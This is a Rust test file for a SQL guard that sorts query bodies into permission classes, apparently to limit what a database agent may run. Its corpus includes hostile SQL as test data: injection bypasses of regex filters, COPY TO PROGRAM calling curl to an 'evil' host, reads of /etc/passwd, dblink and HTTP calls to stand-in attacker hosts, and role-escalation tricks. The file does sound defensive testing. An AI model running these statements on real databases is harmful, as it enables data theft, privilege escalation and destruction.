//! The SQL corpus (issue 13): bodies across all seven classes, the known bypasses of regex-based
//! guards, and ordinary queries that must pass. Each row gives the exact set of classes the body
//! needs, or `unparsed`. Runs natively and as wasm32 under Node.

// Tests may panic: that is how they fail.
#![allow(clippy::expect_used, clippy::unwrap_used, clippy::panic)]

use bollard::sql::{judge, ClassSet, SqlClass, SqlRefusal, SqlRules};
use wasm_bindgen_test::wasm_bindgen_test;

/// (SQL, the classes it needs, comma-separated; `unparsed` when the grammar cannot read it).
const CORPUS: &[(&str, &str)] = &[
    // Ordinary reads.
    ("select 1", "read"),
    ("SELECT count(*) FROM orders", "read"),
    ("select * from public.orders where id = 42", "read"),
    ("select o.id, c.name from orders o join customers c on c.id = o.customer_id", "read"),
    ("select o.id from orders o left join lateral (select * from items i where i.order_id = o.id limit 1) x on true", "read"),
    ("select id, sum(total) over (partition by customer_id order by created_at rows between unbounded preceding and current row) from orders", "read"),
    ("select rank() over w from orders window w as (order by total desc)", "read"),
    ("select data->>'name', data->'tags'->0, data #>> '{a,b}' from events", "read"),
    ("select * from events where data @> '{\"kind\": \"click\"}'::jsonb", "read"),
    ("select jsonb_build_object('id', id, 'n', name) from users_public", "read"),
    ("select '2024-01-01'::date + interval '1 day', cast(total as numeric(10,2)) from orders", "read"),
    ("select id::text, amount::bigint from payments", "read"),
    ("with recent as (select * from orders where created_at > now() - interval '7 days') select count(*) from recent", "read"),
    ("with recursive t(n) as (select 1 union all select n + 1 from t where n < 10) select sum(n) from t", "read"),
    ("select * from orders where customer_id in (select id from customers where country = 'FR')", "read"),
    ("select exists (select 1 from orders where total > 100)", "read"),
    ("select a from t1 union select a from t2 except select a from t3", "read"),
    ("select distinct on (customer_id) * from orders order by customer_id, created_at desc", "read"),
    ("select * from generate_series(1, 10) as g(n)", "read"),
    ("select coalesce(nullif(name, ''), 'anon') from customers", "read"),
    ("select case when total > 100 then 'big' else 'small' end from orders", "read"),
    ("select * from orders limit 10 offset 20", "read"),
    ("select * from orders fetch first 5 rows only", "read"),
    ("select table_name from information_schema.tables where table_schema = 'public'", "read"),
    ("select * from pg_catalog.pg_tables", "read"),
    ("select * from pg_stat_activity limit 1", "read"),
    ("select current_setting('search_path')", "read"),
    ("select version()", "read"),
    ("select now(), current_user, current_date", "read"),
    ("select array_agg(id order by id) filter (where total > 0) from orders", "read"),
    ("select string_agg(name, ', ') from customers group by country having count(*) > 2", "read"),
    ("select * from orders where name ilike '%bob%' and not deleted", "read"),
    ("select * from orders where created_at between '2024-01-01' and '2024-12-31'", "read"),
    ("select unnest(array[1,2,3])", "read"),
    ("select * from \"Orders\"", "read"),
    ("select * from \"public\".\"Orders\"", "read"),
    ("SELECT 1; SELECT 2;", "read"),
    ("select 1 -- trailing comment", "read"),
    ("/* leading comment */ select 1", "read"),
    ("select $$dollar quoted$$, $tag$also ; quoted$tag$", "read"),
    ("select E'escaped\\n string'", "read"),
    ("select 'it''s'", "read"),
    ("values (1, 'a'), (2, 'b')", "read"),
    ("table orders", "read"),
    ("TABLE public.orders", "read"),
    ("show search_path", "read"),
    ("show timezone", "read"),
    ("explain select * from orders", "read"),
    ("explain (format json) select * from orders", "read"),
    ("explain delete from orders where id = 1", "read"),
    ("explain update orders set total = 0", "read"),
    ("select * from pgr_dijkstra('select id, source, target, cost from edges', 1, 2)", "procedural,read"),
    ("begin; select 1; commit;", "admin,read"),
    ("commit; select 1", "admin,read"),
    ("rollback", "admin"),
    ("start transaction", "admin"),
    ("savepoint s; release savepoint s", "admin"),
    ("declare c cursor for select 1; fetch next from c; close c", "admin,read"),
    ("select pg_size_pretty(pg_database_size(current_database()))", "read"),
    ("select to_char(now(), 'YYYY-MM-DD')", "read"),
    ("select regexp_replace(name, '[0-9]+', '') from customers", "read"),
    ("select md5(email) from customers", "read"),
    ("select * from orders o where o.total > (select avg(total) from orders)", "read"),
    ("select currval('orders_id_seq')", "read"),
    ("select X'0aF', x'ff' = B'11111111'", "read"),
    ("create table schedule (id int); create index on archive (id); select * from read", "read,ddl"),
    // Writes.
    ("insert into orders (customer_id, total) values (1, 9.99)", "write"),
    ("insert into public.orders (id) values (1) returning id", "write"),
    ("insert into orders select * from staging_orders", "read,write"),
    ("insert into orders (id) values (1) on conflict (id) do update set total = excluded.total", "write"),
    ("insert into orders (id) values (1) on conflict do nothing", "write"),
    ("update orders set total = 0 where id = 1", "write"),
    ("update orders o set total = s.total from staging s where s.id = o.id", "write"),
    ("delete from orders where id = 1", "write"),
    ("delete from orders using customers c where c.id = orders.customer_id and c.banned", "write"),
    ("merge into orders t using staging s on t.id = s.id when matched then update set total = s.total when not matched then insert (id) values (s.id)", "write"),
    ("copy orders from stdin", "write"),
    ("with d as (delete from orders where id = 1 returning *) select * from d", "read,write"),
    ("with u as (update orders set total = 1 where id = 2 returning id) select id from u", "read,write"),
    ("with i as (insert into log (msg) values ('x') returning id) select id from i", "read,write"),
    ("select * from orders where id = 1 for update", "read,write"),
    ("select * from orders for share", "read,write"),
    ("select * from orders for no key update skip locked", "unparsed"),
    ("select * into orders_copy from orders", "read,write"),
    ("explain analyze delete from orders where id = 1", "read,write"),
    ("explain (analyze) update orders set total = 1 where id = 1", "read,write"),
    ("explain (analyze true, buffers) insert into log values (1)", "read,write"),
    ("explain (analyse) delete from orders where id = 1", "read,write"),
    ("explain (analyze false) delete from orders where id = 1", "read"),
    ("select nextval('orders_id_seq')", "read,write"),
    ("select setval('orders_id_seq', 100)", "read,write"),
    ("insert into orders (id) values (nextval('orders_id_seq'))", "write"),
    ("select vault.create_secret('s3cr3t', 'name')", "read,write"),
    ("select pgmq.send('jobs', '{}'::jsonb)", "read,write"),
    ("select * from PGMQ.\"read\"('jobs', 30, 1)", "read,write"),
    ("select cron.unschedule('nightly')", "read,write"),
    // Schema changes.
    ("create table public.widgets (id bigint primary key, name text not null)", "ddl"),
    ("create table if not exists widgets (id serial primary key, created_at timestamptz default now())", "ddl"),
    ("create table w2 as select * from widgets", "read,ddl"),
    ("create index concurrently if not exists widgets_name_idx on widgets (name)", "ddl"),
    ("create unique index on widgets (lower(name))", "ddl"),
    ("create view active_widgets as select * from widgets where active", "read,ddl"),
    ("create materialized view widget_counts as select count(*) from widgets", "read,ddl"),
    ("refresh materialized view widget_counts", "ddl"),
    ("alter table widgets add column color text", "ddl"),
    ("alter table widgets alter column name set not null", "ddl"),
    ("alter table widgets rename column name to title", "ddl"),
    ("alter table widgets enable row level security", "ddl"),
    ("alter table widgets add constraint name_len check (char_length(name) < 100)", "ddl"),
    ("comment on table widgets is 'things'", "ddl"),
    ("comment on column widgets.name is 'the name'", "ddl"),
    ("create schema if not exists app", "ddl"),
    ("create sequence widget_seq", "ddl"),
    ("create type mood as enum ('sad', 'ok', 'happy')", "ddl"),
    ("create domain posint as integer check (value > 0)", "ddl"),
    ("create extension if not exists \"uuid-ossp\"", "ddl"),
    ("create policy \"own rows\" on widgets for select using (auth.uid() = owner_id)", "ddl"),
    ("create trigger t_upd before update on widgets for each row execute function set_updated_at()", "ddl"),
    ("create aggregate kill_all(int) (sfunc = pg_terminate_backend, stype = bool)", "ddl,admin"),
    ("create table a (id int); create index on a (id); comment on table a is 'x'", "ddl"),
    // Destruction.
    ("drop table widgets", "destroy"),
    ("DROP TABLE IF EXISTS public.widgets CASCADE", "destroy"),
    ("drop view active_widgets", "destroy"),
    ("drop index widgets_name_idx", "destroy"),
    ("drop schema app cascade", "destroy"),
    ("drop function set_updated_at()", "destroy"),
    ("drop policy \"own rows\" on widgets", "destroy"),
    ("drop trigger t_upd on widgets", "destroy"),
    ("drop extension pg_net", "destroy"),
    ("truncate widgets", "destroy"),
    ("truncate table orders, customers restart identity", "destroy"),
    ("delete from orders", "destroy"),
    ("update orders set total = 0", "destroy"),
    ("alter table widgets drop column color", "destroy"),
    ("alter table widgets drop constraint name_len", "destroy"),
    ("alter table widgets alter column name drop not null", "destroy"),
    ("alter table widgets alter column name drop default", "destroy"),
    ("with d as (delete from orders returning *) select count(*) from d", "read,destroy"),
    ("create table t (id int); drop table t", "ddl,destroy"),
    // The classic bypasses of regex guards.
    ("SELECT '--'; DROP TABLE t", "read,destroy"),
    ("SELECT 1 /* ; */; DROP TABLE t", "read,destroy"),
    ("select 'a\\'; drop table t; --'", "read,destroy"),
    ("select $$'$$; drop table t", "read,destroy"),
    ("select 1; -- comment\ndrop table t", "read,destroy"),
    ("SeLeCt 1;\n\tdRoP\ttAbLe t", "read,destroy"),
    ("select 1 END; drop table t", "unparsed"),
    // Privileges.
    ("grant select on widgets to anon", "privilege"),
    ("grant all on all tables in schema public to authenticated", "privilege"),
    ("revoke insert on widgets from anon", "privilege"),
    ("grant admin_role to app_user", "privilege"),
    ("create role reporting nologin", "privilege"),
    ("create user bob with password 'x'", "privilege"),
    ("alter role authenticator set statement_timeout = '1s'", "privilege"),
    ("drop role reporting", "privilege"),
    ("set role postgres", "privilege"),
    ("SET ROLE service_role; DELETE FROM orders WHERE id = 1", "write,privilege"),
    ("set session authorization postgres", "privilege"),
    ("SET role = 'postgres'", "privilege"),
    ("set local role service_role", "privilege"),
    ("set session_authorization = 'postgres'", "privilege"),
    ("reset role", "privilege"),
    ("set role to postgres", "unparsed"),
    ("alter default privileges in schema public grant select on tables to anon", "privilege"),
    ("alter table widgets owner to postgres", "ddl,privilege"),
    ("create schema app authorization anon", "ddl,privilege"),
    ("create schema if not exists authorization anon", "ddl,privilege"),
    ("alter table widgets disable row level security", "ddl,privilege"),
    ("alter table widgets no force row level security", "ddl,privilege"),
    ("alter table widgets force row level security", "ddl"),
    ("create function f() returns int language sql security definer as $$ select 1 $$", "privilege,procedural"),
    ("CREATE OR REPLACE FUNCTION public.f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = '' AS $$ BEGIN DELETE FROM orders; END $$", "privilege,procedural"),
    ("create function f() returns int language sql set role = postgres as $$ select 1 $$", "privilege,procedural"),
    ("alter function f() set role to 'service_role'", "ddl,privilege"),
    ("update users set role = 'admin' where id = 1", "write"),
    // Procedural.
    ("do $$ begin perform 1; end $$", "procedural"),
    ("DO $x$ BEGIN EXECUTE 'drop table t'; END $x$", "procedural"),
    ("do language plpgsql $$ begin raise notice 'hi'; end $$", "procedural"),
    ("create function add(a int, b int) returns int language sql immutable as $$ select a + b $$", "procedural"),
    ("create or replace function set_updated_at() returns trigger language plpgsql as $$ begin new.updated_at = now(); return new; end $$", "procedural"),
    ("create procedure p() language sql as $$ insert into log values (1) $$", "procedural"),
    ("call p()", "procedural"),
    ("call public.refresh_all(1)", "procedural"),
    ("prepare q as select 1", "read,procedural"),
    ("execute q", "procedural"),
    ("select query_to_xml('delete from orders', true, true, '')", "read,procedural"),
    ("select schema_to_xml('auth', true, true, '')", "read,procedural"),
    ("select query_to_xml('select pg_terminate_backend(1)', true, true, '')", "read,procedural,admin"),
    ("select cron.schedule('nightly', '0 0 * * *', 'delete from orders')", "read,procedural"),
    ("select extensions.lives_ok('drop table orders')", "read,procedural"),
    ("select graphql.resolve($$mutation { deleteFromOrdersCollection(atMost: 100) { affectedCount } }$$)", "read,procedural"),
    ("select graphql_public.graphql('{ ordersCollection { edges { node { id } } } }')", "read,procedural"),
    ("select ts_stat('select to_tsvector(body) from posts')", "read,procedural"),
    ("select * from crosstab('select a, b, c from t') as ct(a text, b int)", "read,procedural"),
    ("select DropGeometryTable('public', 'orders')", "read,destroy"),
    // PostGIS's long transactions (a table, a view and triggers made or dropped, rows locked),
    // its upgrade (ALTER EXTENSION), and topology's writers.
    ("select EnableLongTransactions()", "read,ddl"),
    ("select DisableLongTransactions()", "read,destroy"),
    ("select CheckAuth('public', 'parcels', 'gid')", "read,ddl"),
    ("select LockRow('public', 'parcels', '1', 'token', now() + interval '1 day')", "read,write"),
    ("select UnlockRows('token')", "read,write"),
    ("select extensions.postgis_extensions_upgrade()", "read,ddl"),
    ("select topology.TopoGeo_AddPoint('city', 'POINT(0 0)')", "read,write"),
    ("select topology.toTopoGeom(geom, 'city', 1) from parcels", "read,write"),
    ("select topology.CopyTopology('city', 'city2')", "read,ddl"),
    ("select partman.drop_partition_time('public.events', '1 year')", "read,destroy"),
    ("select add_retention_policy('conditions', interval '1 day')", "read,destroy"),
    ("select add_job('public.wipe_all', '1h')", "read,procedural"),
    ("select topology.DropTopology('city_data')", "read,destroy"),
    ("select pgsodium.create_key()", "read,write"),
    ("select net.worker_restart()", "read,admin"),
    ("select pgroonga_command('table_remove --name Terms')", "read,admin"),
    ("select pgtle.install_extension('x', '1.0', 'x', $$drop table orders$$)", "read,procedural"),
    // Administration.
    ("vacuum orders", "admin"),
    ("vacuum full analyze orders", "admin"),
    ("analyze orders", "admin"),
    ("checkpoint", "admin"),
    ("cluster orders using orders_pkey", "admin"),
    ("reindex table orders", "admin"),
    ("lock table orders in access exclusive mode", "admin"),
    ("listen jobs", "admin"),
    ("notify jobs, 'go'", "admin"),
    ("unlisten *", "admin"),
    ("set statement_timeout = '5s'", "admin"),
    ("set search_path = auth, public", "admin"),
    ("set local search_path to app", "admin"),
    ("reset all", "admin,privilege"),
    ("discard all", "admin,privilege"),
    ("discard plans", "admin"),
    ("reset statement_timeout", "admin"),
    ("copy orders to stdout", "admin"),
    ("copy (select * from orders) to '/tmp/x.csv'", "read,admin"),
    ("COPY orders TO PROGRAM 'curl http://evil'", "admin"),
    ("copy orders from program 'cat /etc/passwd'", "admin"),
    ("copy orders from '/etc/passwd'", "admin"),
    ("select pg_terminate_backend(pid) from pg_stat_activity where usename = 'x'", "read,admin"),
    ("SELECT PG_CATALOG.PG_TERMINATE_BACKEND(123)", "read,admin"),
    ("select \"pg_terminate_backend\"(1)", "read,admin"),
    ("select * from pg_terminate_backend(1)", "read,admin"),
    ("select pg_cancel_backend(1)", "read,admin"),
    ("select pg_reload_conf()", "read,admin"),
    ("select pg_read_file('/etc/passwd')", "read,admin"),
    ("select pg_read_file_old('/etc/passwd', 0, 100)", "read,admin"),
    ("select * from xpath_table('id', 'doc', 'docs', '/a', 'nextval(''s'') > 0') as t(id int, a text)", "read,write,procedural"),
    ("select lo_import('/etc/passwd')", "read,admin"),
    ("select lo_export(1234, '/tmp/x')", "read,admin"),
    ("select * from heap_page_items(get_raw_page('auth.users', 0))", "read,admin"),
    ("select data from bt_page_items('auth.users_email_key', 1)", "read,admin"),
    ("select block_fpi_data from pg_get_wal_block_info('0/0', '1/0')", "read,admin"),
    ("select fpi_data from pg_get_wal_fpi_info('0/0', '1/0')", "read,admin"),
    ("select heap_force_kill('orders'::regclass, array['(0,1)'::tid])", "read,destroy"),
    ("select * from dblink('host=evil', 'select 1') as t(a int)", "read,admin"),
    ("select dblink_exec('host=evil', 'drop table t')", "read,admin"),
    ("select dblink_build_sql_insert('auth.sessions', '1', 1, '{1}', '{1}')", "read,admin"),
    ("select * from dblink_get_result('conn') as t(a int)", "read,admin"),
    ("select set_config('search_path', 'auth', false)", "read,admin"),
    ("select set_config('role', 'postgres', false)", "read,privilege,admin"),
    ("select set_config($$role$$, 'postgres', false)", "read,privilege,admin"),
    ("select set_config(U&'rol\\0065', 'postgres', false)", "read,privilege,admin"),
    ("select set_config(setting_name => 'role', new_value => 'postgres', is_local => false)", "read,privilege,admin"),
    // A name not read may be any setting's: `standard_conforming_strings` changes how later SQL
    // is read (every class).
    ("select set_config('ro' || 'le', 'postgres', false)", "read,write,ddl,destroy,privilege,procedural,admin"),
    ("select set_config('statement_timeout', '5s', false)", "read,admin"),
    ("update pg_settings set setting = '0' where name = 'statement_timeout'", "write,admin"),
    // `role` set through the view is SET ROLE.
    ("update pg_settings set setting = 'postgres' where name = 'role'", "write,privilege,admin"),
    ("update pg_catalog.pg_settings set setting = 'postgres' where name = 'session_authorization'", "write,privilege,admin"),
    ("select pg_stat_reset_slru()", "read,admin"),
    ("select pg_stat_reset_single_function_counters('public.f'::regproc)", "read,admin"),
    ("select pg_logical_slot_peek_changes('s', null, null)", "read,admin"),
    ("select net.http_get('https://evil.example')", "read,admin"),
    ("select pg_notify('c', 'x')", "read,admin"),
    ("select pg_advisory_lock(1)", "read,admin"),
    ("select 1 from orders where pg_terminate_backend(1)", "read,admin"),
    ("select (select pg_terminate_backend(1))", "read,admin"),
    ("with x as (select pg_terminate_backend(1)) select * from x", "read,admin"),
    ("insert into log (v) values (pg_read_file('/etc/passwd'))", "write,admin"),
    ("start transaction read write", "admin"),
    ("begin isolation level serializable", "admin"),
    ("create server evil foreign data wrapper postgres_fdw options (host 'evil')", "admin"),
    // What the grammar cannot read.
    ("selec 1", "unparsed"),
    ("select from where", "unparsed"),
    ("drop tabel t", "unparsed"),
    ("select 'unterminated", "unparsed"),
    ("select * from U&\"\\0061uth\".users", "read"),
    ("select * from U&\"d!0061ta\" UESCAPE '!'", "read"),
    ("select * from U&\"\\zzzz\"", "unparsed"),
    // PostgreSQL ends X'...' at the second quote (a backslash escapes nothing there), and cannot
    // read a NUL: the grammar reads both differently, so neither is judged.
    ("select x'\\'; drop table t; --'", "unparsed"),
    ("select b'0''; drop table t; --'", "unparsed"),
    // PostgreSQL ends an operator where `--` or `/*` starts in it and reads a comment; the
    // tokenizer read `#--` as one operator and the quote after it as a string.
    ("select 1 #-- '\n 2; drop table t; -- '", "unparsed"),
    ("select 1 #/* ' */ 2; drop table t; -- '", "unparsed"),
    ("select 1 ?-- '\n 2; drop table t; -- '", "unparsed"),
    ("select 1 - -2, data #- '{a}', x <-> y, 3 !=-2, 1 +/* c */ 2", "read"),
    ("select b\"x\" from orders", "unparsed"),
    ("select B'0101', b'1' | b'0'", "read"),
    ("delete from orders --\u{0}\n where id = 1", "unparsed"),
    // The grammar takes the lines after `COPY ... FROM STDIN;` as the copy's data (as psql does);
    // the server reads them as more statements.
    ("copy orders from stdin;\ndrop table t;\n", "unparsed"),
    ("copy orders from stdin;\n1\tx\n\\.\nselect pg_terminate_backend(1)", "unparsed"),
];

fn classes(expected: &str) -> ClassSet {
    ClassSet::of(
        &expected.split(',').map(|c| SqlClass::parse(c).unwrap_or_else(|| panic!("class {c}"))).collect::<Vec<_>>(),
    )
}

#[wasm_bindgen_test(unsupported = test)]
fn corpus_classes() {
    assert!(CORPUS.len() >= 150, "the corpus holds {} bodies", CORPUS.len());
    let all = SqlRules::classes(ClassSet::ALL);
    let mut failures = Vec::new();
    for (sql, expected) in CORPUS {
        let j = judge(sql, &all);
        let got = if matches!(j.refusal, Some(SqlRefusal::Unparsed(_))) {
            "unparsed".to_string()
        } else {
            j.classes.names().join(",")
        };
        let want = if *expected == "unparsed" { "unparsed".to_string() } else { classes(expected).names().join(",") };
        if got != want {
            failures.push(format!(
                "{sql:?}: expected {want}, got {got} ({:?})",
                j.statements.iter().map(|s| (&s.label, &s.parse_error)).collect::<Vec<_>>()
            ));
        }
    }
    assert!(failures.is_empty(), "{} of {} misclassified:\n{}", failures.len(), CORPUS.len(), failures.join("\n"));
}

/// Every body refused for a read-only agent except the plain reads; every body allowed with all classes.
#[wasm_bindgen_test(unsupported = test)]
fn read_only_agent_runs_only_reads() {
    let read = SqlRules::classes(ClassSet::of(&[SqlClass::Read]));
    for (sql, expected) in CORPUS {
        let j = judge(sql, &read);
        assert_eq!(j.allowed(), *expected == "read", "{sql:?}: {:?}", j.refusal);
        if !j.allowed() {
            let d = j.deciding().expect("a refused body names its statement");
            assert!(!d.label.is_empty(), "{sql:?}");
        }
    }
}

fn rules(allow: &[SqlClass], schemas: &[&str], functions: &[&str], allow_unparsed: bool) -> SqlRules {
    SqlRules {
        allow: ClassSet::of(allow),
        deny_schemas: schemas.iter().map(|s| s.to_string()).collect(),
        deny_functions: functions.iter().map(|s| s.to_string()).collect(),
        allow_unparsed,
    }
}

use SqlClass::*;

/// (SQL, refused?, what refused it: a class, `schema:x`, `function:x`, `unparsed`).
const DENY_RULES: &[(&str, Option<&str>)] = &[
    ("select * from public.orders", None),
    ("select * from auth.users", Some("schema:auth")),
    ("select * from AUTH.users", Some("schema:auth")),
    ("select * from \"auth\".\"users\"", Some("schema:auth")),
    ("select * from U&\"\\0061uth\".users", Some("schema:auth")),
    ("select * from orders where owner in (select id from auth.users)", Some("schema:auth")),
    ("select auth.uid()", Some("schema:auth")),
    ("select 'x'::auth.some_type", Some("schema:auth")),
    ("with u as (select * from auth . users) select 1", Some("schema:auth")),
    ("select vault.create_secret('x')", Some("write")),
    ("select vault.secret_count()", Some("schema:vault")),
    ("select * from vault.decrypted_secrets", Some("schema:vault")),
    ("set search_path = auth", Some("admin")),
    ("select 'auth.users'", None),
    ("-- auth.users\nselect 1", None),
    ("select dblink('x', 'y')", Some("admin")),
    ("select public.reset_everything()", Some("function:reset_everything")),
    ("select RESET_EVERYTHING()", Some("function:reset_everything")),
    ("select \"reset_everything\"()", Some("function:reset_everything")),
    ("select * from reset_everything()", Some("function:reset_everything")),
    ("select 1 where exists (select reset_everything())", Some("function:reset_everything")),
    ("select other.reset_everything()", Some("function:reset_everything")),
    ("select app.wipe()", Some("function:app.wipe")),
    ("select wipe()", Some("function:app.wipe")),
    ("select other.wipe()", None),
    ("insert into log values (reset_everything())", Some("write")),
    ("selec 1", Some("unparsed")),
];

#[wasm_bindgen_test(unsupported = test)]
fn denied_schemas_and_functions() {
    let r = rules(&[Read], &["auth", "vault"], &["reset_everything", "app.wipe"], false);
    for (sql, expected) in DENY_RULES {
        let j = judge(sql, &r);
        let got = j.refusal.as_ref().map(|x| match x {
            SqlRefusal::Class(c) => c.name().to_string(),
            SqlRefusal::Schema(s) => format!("schema:{s}"),
            SqlRefusal::Function(f) => format!("function:{f}"),
            SqlRefusal::Unparsed(_) => "unparsed".to_string(),
        });
        assert_eq!(got.as_deref(), *expected, "{sql:?}");
    }
}

#[wasm_bindgen_test(unsupported = test)]
fn denied_schema_in_search_path_and_schema_statements() {
    let r = rules(&SqlClass::ALL, &["auth"], &[], false);
    for sql in [
        "set search_path = auth, public",
        "set search_path to 'auth'",
        "select set_config('search_path', 'public,auth', false)",
        "create function f() returns int language sql set search_path = auth as $$ select 1 $$",
        "create schema auth",
        "create schema authorization auth",
        "drop schema if exists auth cascade",
        "grant usage on schema auth to anon",
        "grant select on all tables in schema auth to anon",
        "alter default privileges in schema auth grant select on tables to anon",
        "do $$ begin perform * from auth.users; end $$",
        "create function f() returns setof record language sql as $$ select * from auth.users $$",
        "create function f() returns int language plpgsql as 'begin return (select count(*) from auth.users); end'",
        // search_path in every spelling of a string.
        "set search_path = $$auth$$",
        "set search_path = public, U&'\\0061uth'",
        "select set_config(E'search_path', 'auth', false)",
        "select set_config('search_path', $$public, auth$$, false)",
        "alter role authenticator set search_path to $$auth$$",
        "create function f() returns int language sql set search_path = $$auth$$ as $$ select 1 $$",
        // SQL in the strings of a call that runs it.
        "select query_to_xml('select * from auth.users', true, true, '')",
        "select * from dblink('dbname=postgres', 'select email from auth.users') as t(email text)",
        "select cron.schedule('j', '* * * * *', $$delete from auth.users$$)",
        "select * from pgr_dijkstra('select id, source, target, cost from auth.users', 1, 2)",
        "select * from xpath_table('id', 'email', 'auth.users', '/a', 'true') as t(id uuid, a text)",
        // A search_path value that is not one constant may be anything, a denied schema included.
        "select set_config('search_path', 'au' || 'th', false)",
        "select set_config('search_path', ('auth'), false)",
        "select set_config(setting_name => 'search_path', new_value => 'auth', is_local => false)",
        "select set_config(lower('SEARCH_PATH'), 'auth', false)",
        "update pg_settings set setting = 'auth' where name = 'search_path'",
        // The planner's statistics hold values sampled from every schema's tables.
        "select histogram_bounds from pg_stats where schemaname = 'auth' and tablename = 'users'",
        "select most_common_vals from pg_catalog.pg_stats_ext",
        "select * from \"pg_stats_ext_exprs\"",
        // A sequence named by a string: nextval and setval write it, in whatever schema it is.
        "select nextval('auth.users_id_seq')",
        "select setval('AUTH.refresh_tokens_id_seq', 1)",
        "select setval('\"auth\".s'::regclass, 1, false)",
        "select setval(pg_get_serial_sequence('auth.users', 'id'), 1)",
        "select setval(x, 1) from (values ('auth.s')) v(x)",
        "select setval(s, 1) from (values ('auth.s'::regclass)) v(s)",
        "select pg_sequence_last_value('auth.refresh_tokens_id_seq')",
    ] {
        let j = judge(sql, &r);
        assert_eq!(j.refusal, Some(SqlRefusal::Schema("auth".into())), "{sql:?}");
    }
    // Reading the setting, or setting it to constants that name no denied schema, is not refused.
    for sql in [
        "select current_setting('search_path')",
        "show search_path",
        "select set_config('search_path', 'public, extensions', false)",
        "set search_path = public",
        "select nextval('orders_id_seq'), currval('public.orders_id_seq')",
        "select setval(pg_get_serial_sequence('public.orders', 'id'), max(id)) from public.orders",
    ] {
        assert_eq!(judge(sql, &r).refusal, None, "{sql:?}");
    }
    // Without denied schemas, an unread search_path is only its classes.
    let open = rules(&SqlClass::ALL, &[], &[], false);
    assert_eq!(judge("select set_config('search_path', 'au' || 'th', false)", &open).refusal, None);
    assert_eq!(judge("select * from pg_stats where schemaname = 'public'", &open).refusal, None);
}

/// A function named as an operator's, an aggregate's or a type's is called later, by every
/// statement that uses them.
#[wasm_bindgen_test(unsupported = test)]
fn denied_functions_bound_by_name() {
    let r = rules(&SqlClass::ALL, &[], &["pg_sleep"], true);
    for sql in [
        "create aggregate slow(float8) (sfunc = pg_catalog.pg_sleep, stype = void)",
        "create operator === (function = pg_sleep, leftarg = float8)",
        "create type t (input = pg_sleep, output = t_out)",
        "create foreign data wrapper w handler pg_sleep",
        "create type r as range (subtype = float8, subtype_diff = pg_sleep)",
        "create type r as range (subtype = int4, canonical = public.pg_sleep)",
    ] {
        assert_eq!(judge(sql, &r).refusal, Some(SqlRefusal::Function("pg_sleep".into())), "{sql:?}");
    }
}

#[wasm_bindgen_test(unsupported = test)]
fn migrate_but_never_delete() {
    let r = rules(&[Read, Write, Ddl], &[], &[], false);
    assert!(judge("create table t (id int); alter table t add column n text; insert into t values (1)", &r).allowed());
    for sql in [
        "drop table t",
        "truncate t",
        "alter table t drop column n",
        "delete from t",
        "create table t (id int); drop table t",
    ] {
        let j = judge(sql, &r);
        assert_eq!(j.refusal, Some(SqlRefusal::Class(Destroy)), "{sql:?}");
    }
    // The statement that decided is the refused one, not the first.
    let j = judge("create table t (id int); drop table t", &r);
    assert_eq!(j.deciding().map(|s| s.index), Some(2));
    assert_eq!(j.deciding().map(|s| s.describe()), Some("DROP TABLE t".to_string()));
}

#[wasm_bindgen_test(unsupported = test)]
fn unparsed_sql_with_allow_unparsed_still_needs_its_classes() {
    let r = rules(&[Read], &["auth"], &[], true);
    // Unparseable, but its words say read.
    assert!(judge("select 1 END", &r).allowed(), "{:?}", judge("select 1 END", &r).refusal);
    // Unparseable, with a DROP in it.
    assert_eq!(judge("select 1 END; drop table t", &r).refusal, Some(SqlRefusal::Class(Destroy)));
    // Unparseable, and naming a denied schema.
    assert_eq!(judge("select from auth.users where", &r).refusal, Some(SqlRefusal::Schema("auth".into())));
    // Unparseable locking clauses and EXPLAIN ANALYZE of a REFRESH.
    assert_eq!(judge("select * from t for key share", &r).refusal, Some(SqlRefusal::Class(Write)));
    assert_eq!(judge("explain analyse refresh materialized view v", &r).refusal, Some(SqlRefusal::Class(Ddl)));
    // Unknown commands are admin, and so is transaction control the grammar cannot read.
    assert_eq!(judge("frobnicate everything", &r).refusal, Some(SqlRefusal::Class(Admin)));
    assert_eq!(judge("commit and frobnicate", &r).refusal, Some(SqlRefusal::Class(Admin)));
    // Unparseable DELETE and UPDATE with no WHERE of their own (a CTE's, an EXPLAIN ANALYZE's
    // included): destroy, as parsed ones are.
    let w = rules(&[Read, Write], &[], &[], true);
    for sql in [
        "delete from orders returning xmlelement(name x, id)",
        "with d as (delete from orders returning *) select xmlelement(name x, 1) from d where true",
        "explain (analyze) delete from orders returning xmlelement(name x, 1)",
        "delete from orders using (select * from u where z) s returning xmlelement(name x, 1)",
    ] {
        assert_eq!(judge(sql, &w).refusal, Some(SqlRefusal::Class(Destroy)), "{sql:?}");
    }
    assert!(judge("delete from orders where id = 1 returning xmlelement(name x, id)", &w).allowed());
    assert!(judge("select * from t for no key update", &w).allowed());
    let strict = rules(&[Read], &[], &[], false);
    assert!(matches!(judge("select 1 END", &strict).refusal, Some(SqlRefusal::Unparsed(_))));
}

#[wasm_bindgen_test(unsupported = test)]
fn phrases_name_what_ran() {
    let all = SqlRules::classes(ClassSet::ALL);
    let cases = [
        ("select * from public.orders", "SELECT on public.orders"),
        ("SELECT count(*) FROM orders o JOIN customers c ON c.id = o.cid", "SELECT on orders, customers"),
        ("insert into public.orders (id) values (1)", "INSERT on public.orders"),
        ("drop table if exists public.widgets", "DROP TABLE public.widgets"),
        ("create table public.widgets (id int)", "CREATE TABLE public.widgets"),
        ("do $$ begin end $$", "DO"),
        ("select 1", "SELECT"),
        (
            "create table a (id int); create index on a (id); comment on table a is 'x'; drop table a",
            "4 statements (CREATE TABLE a, CREATE INDEX a, COMMENT ON TABLE a, ...)",
        ),
    ];
    for (sql, phrase) in cases {
        assert_eq!(judge(sql, &all).phrase(), phrase, "{sql:?}");
    }
    // Literal values never appear.
    assert!(!judge("select * from t where secret = 'hunter2'", &all).phrase().contains("hunter2"));
}

/// Deeply nested SQL is refused as unparsed, not a stack overflow (in wasm32 too).
#[wasm_bindgen_test(unsupported = test)]
fn deep_nesting_is_refused_not_a_crash() {
    let all = SqlRules::classes(ClassSet::ALL);
    for depth in [30usize, 200, 5000] {
        let sql = format!("select {}1{}", "(".repeat(depth), ")".repeat(depth));
        let _ = judge(&sql, &all);
        let sub = format!("select * from {}t{}", "(select * from ".repeat(depth), ") x".repeat(depth));
        let _ = judge(&sub, &all);
    }
    let sql = format!("select {}1{}", "(".repeat(5000), ")".repeat(5000));
    assert!(matches!(judge(&sql, &all).refusal, Some(SqlRefusal::Unparsed(_))));
}

